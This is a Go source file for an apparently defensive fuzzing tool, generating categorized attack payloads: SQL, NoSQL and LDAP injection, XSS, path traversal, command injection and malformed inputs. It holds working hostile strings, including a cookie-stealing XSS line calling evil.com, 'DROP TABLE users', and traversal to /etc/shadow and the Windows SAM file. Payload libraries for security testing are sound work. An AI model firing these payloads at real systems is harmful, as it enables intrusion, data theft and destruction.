// Package payloads provides stateless, category-tagged attack payload
// generation: injection strings, traversal sequences, and structural edge
// cases (oversized, null-byte, unicode, special-character inputs).
//
// Generators are deterministic in category only. Randomized content is
// expected; the hard invariant is category correctness — LongString(n)
// returns exactly n bytes, NullByte() members always contain a NUL.
package payloads

import (
	"math/rand"
	"strings"

	"github.com/fenrir-sec/fenrir/pkg/defaults"
)

// Set is an organized group of related payloads for one attack category.
type Set struct {
	Name        string   `json:"name"`
	Category    string   `json:"category"`
	Payloads    []string `json:"payloads"`
	Description string   `json:"description"`
}

// Category names used by the campaign registry and the mutation engine.
const (
	CategorySQLi      = "sqli"
	CategoryXSS       = "xss"
	CategoryTraversal = "traversal"
	CategoryCmdI      = "cmdi"
	CategoryNoSQLi    = "nosqli"
	CategoryLDAP      = "ldap"
	CategoryEdge      = "edge"
)

// SQLInjection returns payloads targeting SQL query construction across
// common database engines and injection points.
func SQLInjection() Set {
	return Set{
		Name:     "SQL Injection",
		Category: CategorySQLi,
		Payloads: []string{
			"' OR 1=1 --",
			"' UNION SELECT NULL,NULL,NULL--",
			"admin'--",
			"' or '1'='1",
			"' OR 1=1 LIMIT 1--",
			"admin' OR 'x'='x",
			"' UNION SELECT username,password FROM users--",
			"'; DROP TABLE users; --",
			"' OR 1=1 ORDER BY 1--",
			"' OR 1=1 UNION SELECT 1,2,3--",
			"' OR 1=1 /*",
			"' OR 1=1 #",
			"') OR ('1'='1",
			"' OR 1=1 UNION SELECT version()--",
			"' OR 1=1 UNION SELECT user()--",
			"' OR 1=1 UNION SELECT database()--",
			"' OR 1=1 UNION SELECT table_name FROM information_schema.tables--",
			"1' AND SLEEP(5)--",
		},
		Description: "SQL injection payloads for database attacks",
	}
}

// XSS returns cross-site scripting payloads covering element, attribute,
// and URI contexts.
func XSS() Set {
	return Set{
		Name:     "XSS",
		Category: CategoryXSS,
		Payloads: []string{
			"<script>alert('XSS')</script>",
			"<img src=x onerror=alert('XSS')>",
			"<svg onload=alert('XSS')>",
			"<iframe src=javascript:alert('XSS')>",
			"<body onload=alert('XSS')>",
			"<input onfocus=alert('XSS') autofocus>",
			"<video><source onerror=alert('XSS')>",
			"<audio src=x onerror=alert('XSS')>",
			"<details open ontoggle=alert('XSS')>",
			"<marquee onstart=alert('XSS')>",
			"javascript:alert('XSS')",
			"onerror=alert('XSS')",
			"onmouseover=alert('XSS')",
			"<script>document.cookie</script>",
			"<script>new Image().src='http://evil.com/steal?c='+document.cookie</script>",
			"<script>fetch('/admin/delete-all')</script>",
		},
		Description: "XSS payloads for cross-site scripting attacks",
	}
}

// PathTraversal returns directory traversal payloads for POSIX and
// Windows file systems.
func PathTraversal() Set {
	return Set{
		Name:     "Path Traversal",
		Category: CategoryTraversal,
		Payloads: []string{
			"../../../etc/passwd",
			"..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
			"/proc/self/cmdline",
			"../../../var/log/auth.log",
			"..\\..\\..\\windows\\system32\\config\\sam",
			"../../../etc/shadow",
			"../../../etc/hosts",
			"../../../etc/group",
			"../../../etc/sudoers",
			"../../../etc/crontab",
			"../../../etc/ssh/sshd_config",
			"....//....//....//etc/passwd",
			"/etc/passwd%00.jpg",
			"../../../etc/os-release",
			"../../../etc/issue",
		},
		Description: "Path traversal payloads for directory traversal attacks",
	}
}

// CommandInjection returns shell command injection payloads across the
// common separator and substitution syntaxes.
func CommandInjection() Set {
	seps := []string{"; ", "| ", "` ", "$("}
	cmds := []string{"ls -la", "whoami", "id", "cat /etc/passwd", "uname -a", "ps aux", "netstat -an", "ifconfig", "df -h"}
	out := make([]string, 0, len(seps)*len(cmds))
	for _, cmd := range cmds {
		for _, sep := range seps {
			switch sep {
			case "` ":
				out = append(out, "` "+cmd+" `")
			case "$(":
				out = append(out, "$("+cmd+")")
			default:
				out = append(out, sep+cmd)
			}
		}
	}
	return Set{
		Name:        "Command Injection",
		Category:    CategoryCmdI,
		Payloads:    out,
		Description: "Command injection payloads for system command execution",
	}
}

// NoSQLInjection returns operator-injection payloads for document stores.
func NoSQLInjection() Set {
	return Set{
		Name:     "NoSQL Injection",
		Category: CategoryNoSQLi,
		Payloads: []string{
			`{"$ne": null}`,
			`{"$gt": ""}`,
			`{"$regex": ".*"}`,
			`{"$where": "this.username == this.password"}`,
			`{"$or": [{"username": "admin"}, {"password": "admin"}]}`,
			`{"username": {"$ne": null}, "password": {"$ne": null}}`,
			`{"$where": "function() { return true; }"}`,
			`{"$in": ["admin", "root", "user"]}`,
			`{"$exists": true}`,
			`{"$text": {"$search": "admin"}}`,
		},
		Description: "NoSQL operator injection payloads for document databases",
	}
}

// LDAPInjection returns filter-manipulation payloads for directory services.
func LDAPInjection() Set {
	return Set{
		Name:     "LDAP Injection",
		Category: CategoryLDAP,
		Payloads: []string{
			"*",
			"*)(&",
			"*)(|",
			"*)(|(objectClass=*",
			"*)(|(objectClass=user",
			"*)(|(objectClass=person",
			"*)(|(objectClass=group",
			"*)(|(objectClass=computer",
			"*)(|(objectClass=organizationalUnit",
		},
		Description: "LDAP filter injection payloads for directory attacks",
	}
}

// SpecialCharacters returns parser-stress payloads: control bytes, quote
// and escape characters, and shell metacharacters.
func SpecialCharacters() Set {
	return Set{
		Name:     "Special Characters",
		Category: CategoryEdge,
		Payloads: []string{
			"\x00", "\n", "\r\n", "\\", `"`, "'", "`", "|", "&", ";",
			"<", ">", "{", "}", "[", "]", "(", ")", "=", "+", "%",
			"\t", "\r", "\f", "\v", "\x1b", "\x00\x01\x02\x03",
		},
		Description: "Special character payloads for input validation testing",
	}
}

// Unicode returns multilingual, emoji, and mathematical-alphanumeric
// payloads for encoding-handling tests.
func Unicode() Set {
	return Set{
		Name:     "Unicode",
		Category: CategoryEdge,
		Payloads: []string{
			"测试", "тест", "اختبار", "テスト", "테스트",
			"🧪", "🚀", "🔥",
			"αβγδεζηθικλμνξοπρστυφχψω",
			"абвгдеёжзийклмнопрстуфхцчшщъыьэюя",
			"𝔸𝔹ℂ𝔻𝔼𝔽", "𝐀𝐁𝐂𝐃𝐄𝐅",
			"\uFEFFBOM-prefixed",
			"A​B‌C", // zero-width joiners inside an identifier
		},
		Description: "Unicode payloads for internationalization testing",
	}
}

// Oversized returns large inputs for buffer and limit testing.
func Oversized() Set {
	return Set{
		Name:     "Oversized",
		Category: CategoryEdge,
		Payloads: []string{
			LongString(defaults.OversizedSmall),
			LongString(defaults.OversizedMedium),
			LongString(defaults.OversizedLarge),
			strings.Repeat("A", defaults.OversizedSmall),
			strings.Repeat("1", defaults.OversizedSmall),
			strings.Repeat(" ", defaults.OversizedSmall),
			strings.Repeat("test", defaults.OversizedMedium/4),
			strings.Repeat("a", defaults.OversizedSmall) + "\n" + strings.Repeat("b", defaults.OversizedSmall),
		},
		Description: "Oversized payloads for buffer and resource limit testing",
	}
}

// NullByte returns payloads guaranteed to contain at least one NUL byte.
func NullByte() Set {
	return Set{
		Name:     "Null Byte",
		Category: CategoryEdge,
		Payloads: []string{
			"\x00",
			"admin\x00",
			"\x00admin",
			"file.txt\x00.jpg",
			strings.Repeat("\x00", 16),
			"before\x00after",
		},
		Description: "Null byte payloads for truncation and parsing attacks",
	}
}

// LongString returns a string of exactly n repeated filler bytes.
// LongString(0) returns the empty string.
func LongString(n int) string {
	if n <= 0 {
		return ""
	}
	return strings.Repeat("a", n)
}

const usernameAlphabet = "abcdefghijklmnopqrstuvwxyz0123456789_-"

// FuzzedUsername returns a randomized identifier of length n drawn from
// a username-safe alphabet, for account-enumeration probes.
func FuzzedUsername(n int) string {
	if n <= 0 {
		return ""
	}
	b := make([]byte, n)
	for i := range b {
		b[i] = usernameAlphabet[rand.Intn(len(usernameAlphabet))]
	}
	return string(b)
}

// ForCategory returns the payload sets registered under a category name.
// Unknown categories return nil; callers surface that as an explicit
// "category not found" rather than an empty run.
func ForCategory(category string) []Set {
	switch category {
	case CategorySQLi:
		return []Set{SQLInjection()}
	case CategoryXSS:
		return []Set{XSS()}
	case CategoryTraversal:
		return []Set{PathTraversal()}
	case CategoryCmdI:
		return []Set{CommandInjection()}
	case CategoryNoSQLi:
		return []Set{NoSQLInjection()}
	case CategoryLDAP:
		return []Set{LDAPInjection()}
	case CategoryEdge:
		return []Set{SpecialCharacters(), Unicode(), Oversized(), NullByte()}
	default:
		return nil
	}
}
